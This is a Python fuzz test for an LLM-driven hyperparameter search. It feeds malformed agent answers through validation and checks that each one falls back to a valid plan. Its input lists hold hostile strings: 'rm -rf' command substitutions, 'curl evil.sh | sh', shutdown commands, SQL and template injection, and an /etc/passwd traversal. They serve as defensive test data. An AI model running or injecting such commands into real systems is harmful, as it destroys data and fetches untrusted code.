"""Property-style fuzz of agent answers: hundreds of malformed or hostile answers, generated from a seed, go
through the search's own planning path (plan_node: consult the agent, validate, fall back). None may raise
past it, and none may reach a phase: every node that comes out holds the fallback's valid plan."""

import json
import math
import os
import random

import pytest
from hydra.utils import instantiate
from rich.console import Console

from llmzero.agents.base import ErrorFix, Proposal
from llmzero.agents.heuristic import HeuristicAgent
from llmzero.agents.llm.answers import parse_answer, to_proposal
from llmzero.app import build_space, root_hparams, run_search
from llmzero.search.phase_rules import PlanningContext, Unfixable, plan_node, plan_rules
from llmzero.search.selection import Action
from llmzero.state.rundir import RunDir
from llmzero.tree import Node, NodeKind, NodeStatus

from test_bad_inputs import cfg

N_ANSWERS = 300
CAP = 200  # search.max_steps_per_phase of the default preset
HOSTILE_TEXT = ["$(rm -rf ~)", "`reboot`", "; shutdown -h now", "a && curl evil.sh | sh", "' OR 1=1 --", "\x00\x1b[31m",
                "ü" * 5000, "{{ 7*7 }}", "${HOME}", "../../../etc/passwd"]
BAD_NUMBERS = [math.nan, math.inf, -math.inf, 10 ** 400, -10 ** 400, 1e308 * 10, -1, 0, 2 ** 63, 1e-400]
BAD_VALUES = BAD_NUMBERS + HOSTILE_TEXT + [None, [], {}, {"nested": {"deeper": [1, 2]}}, [0.1], True, "1e-5; ls", b"\xff"]
BAD_KEYS = ["foo", "", "__class__", "learning_rate; rm -rf /", "LEARNING_RATE", " learning_rate", "hparams.learning_rate",
            "lora_rank\n", 7, None]


def hostile_changes(rng, space, parent):
    """A changes mapping that the validation must refuse, in one of several ways."""
    kind = rng.randrange(6)
    key = rng.choice(sorted(space.specs))
    if kind == 0:
        return rng.choice([[("learning_rate", 1e-5)], "learning_rate=1e-5", 42, None, ("lr",), b"{}"])
    if kind == 1:
        return {rng.choice(BAD_KEYS): 1e-5}
    if kind == 2:
        return {key: rng.choice(BAD_VALUES)}
    if kind == 3:  # outside the bounds of a numeric hyperparameter
        spec = space.specs[key]
        if spec.type in ("int", "float") and spec.high is not None:
            return {key: spec.high * 10 + 1}
        return {key: {"value": 1}}
    if kind == 4:  # right key, wrong type
        spec = space.specs[key]
        return {key: {"float": "fast", "int": 3.5, "bool": "maybe", "str": 3}[spec.type]}
    return {"learning_rate": 1e-5, "nested": {"learning_rate": 1e-6}}


def hostile_proposal(rng, space, parent, checkpoints):
    """Valid in some fields, hostile in at least one field the search must check (changes, resume_step,
    max_steps or lora_rank along a path); hostile free text and observations come on top."""
    p = Proposal(changes={}, diagnosis=rng.choice(HOSTILE_TEXT), rationale=rng.choice(HOSTILE_TEXT + [None, 3, ["x"]]),
                 resume_step=max(checkpoints), max_steps=None, agent=rng.choice(["fuzz", None, 7, "x" * 10_000]))
    p.observations = rng.choice([[], "kl rises", [{"metric": ["kl"]}], [None, 3], [{"claim": "$(ls)", "metric": "kl"}]])
    broken = rng.randrange(4)
    if broken == 0:
        p.changes = hostile_changes(rng, space, parent)
    elif broken == 1:
        p.resume_step = rng.choice(["10", 10.5, -1, math.nan, True, 10 ** 400, max(checkpoints) + 1, [5], "latest"])
    elif broken == 2:
        p.max_steps = rng.choice([0, -5, 10 ** 9, "100", math.nan, True, 3.5, CAP + 1, [16]])
    else:  # the adapter's shape cannot change when resuming its weights (§3.3)
        p.changes = {"lora_rank": parent.hparams["lora_rank"] * 2}
    return p


def as_llm_text(rng, p):
    """The same answer as an LLM would send it: JSON, sometimes fenced, cut short or wrapped in prose."""
    doc = {"diagnosis": str(p.diagnosis), "observations": [], "changes": p.changes, "rationale": str(p.rationale),
           "resume_step": p.resume_step, "max_steps": p.max_steps}
    try:
        text = json.dumps(doc, default=str)
    except (TypeError, ValueError):
        text = repr(doc)
    return rng.choice([text, f"```json\n{text}\n```", text[: len(text) // 2], f"Here is my answer: {text} Thanks!",
                       text.replace('"changes"', '"changes": {}, "extra"')])


class Scripted(HeuristicAgent):
    """Answers whatever the test hands it next: an object, or text read the way the LLM agents read it."""

    def __init__(self):
        super().__init__(seed=0)
        self.name = "fuzz"
        self.answer = None

    def propose(self, ctx):
        if isinstance(self.answer, str):
            return to_proposal(parse_answer("proposer", self.answer), "fuzz-llm")
        return self.answer

    def analyze_error(self, ctx):
        return self.answer


@pytest.fixture(scope="module")
def search(tmp_path_factory):
    """A finished root and child on the synthetic trainer, plus a failed node for the error analyzer."""
    config = cfg("search.budget=2")
    out = tmp_path_factory.mktemp("fuzz") / "run"
    res = run_search(config, out, Console(file=open(os.devnull, "w")))
    trainer = instantiate(config.trainer, task=dict(config.task), model=dict(config.model), _convert_="all",
                          _recursive_=False)
    space = build_space(config, trainer)
    tree = res.tree
    root = tree.root()
    failed = Node(id=tree.new_id(), parent=root.id, kind=NodeKind.EVOLVE, hparams=dict(root.hparams),
                  status=NodeStatus.FAILED, error="CUDA out of memory. Tried to allocate 2.00 GiB", max_steps=16)
    tree.add(failed)
    return tree, RunDir(out), space, trainer, root_hparams(config, space), failed


def test_hostile_agent_answers_never_pass_the_validation_nor_stop_the_search(search):
    tree, rundir, space, trainer, theta0, failed = search
    parent = tree.root()
    rng = random.Random(20261129)
    agent = Scripted()
    ctx = PlanningContext(tree=tree, rundir=rundir, rules=plan_rules(space, trainer, CAP), agent=agent,
                          fallback=HeuristicAgent(seed=0), root_hparams=theta0, budget_left=5)
    tally = {"object": 0, "llm text": 0, "error fix": 0, "unfixable": 0, "coerced by the JSON reader": 0}
    for i in range(N_ANSWERS):
        shape = ("object", "llm text", "error fix")[i % 3]
        p = hostile_proposal(rng, space, parent, parent.checkpoints)
        if shape == "error fix":
            agent.answer = ErrorFix(fixable=rng.choice([True, "yes", 1]), diagnosis=p.diagnosis,
                                    changes=p.changes if p.changes else {"lora_rank": -1}, max_steps=p.max_steps)
            action = Action(NodeKind.DEBUG, failed.id)
        else:
            agent.answer = as_llm_text(rng, p) if shape == "llm text" else p
            action = Action(NodeKind.EVOLVE, parent.id)
        try:
            node = plan_node(action, ctx)
        except Unfixable:  # the fallback analyzer's own verdict: no phase, no crash
            tally["unfixable"] += 1
            continue
        tally[shape] += 1
        if "(fallback: fuzz" not in node.agent:
            # Only the JSON reader may accept an answer, by pydantic's coercion of a numeric string ("10" -> 10);
            # what it accepted must then be exactly as valid as any other plan (checked below).
            assert shape == "llm text", (i, agent.answer, node.agent)
            tally["coerced by the JSON reader"] += 1
        assert space.validate(node.hparams) == node.hparams
        assert 1 <= node.max_steps <= CAP
        source = failed if shape == "error fix" else parent
        if node.resume_step is not None:
            assert node.resume_step in tree[node.resume_from].checkpoints
            assert node.hparams["lora_rank"] == source.hparams["lora_rank"]
        json.dumps(node.to_dict())  # the journal can hold it
        assert isinstance(node.diagnosis, str) and isinstance(node.agent, str)
    print(f"fuzzed {N_ANSWERS} hostile answers: {tally}")
    assert tally["object"] + tally["llm text"] + tally["error fix"] + tally["unfixable"] == N_ANSWERS
    assert tally["object"] + tally["llm text"] >= 150 and tally["coerced by the JSON reader"] <= 10
